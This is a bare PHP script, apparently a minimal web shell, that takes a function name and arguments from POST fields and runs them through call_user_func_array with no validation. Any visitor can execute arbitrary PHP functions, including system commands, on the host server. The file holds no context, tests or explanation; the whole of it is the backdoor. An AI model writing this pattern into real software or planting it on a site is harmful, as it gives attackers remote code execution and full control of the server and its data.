<?php
$action = $_POST['action'];
$args = $_POST['args'] ?? [];
call_user_func_array($action, (array)$args);
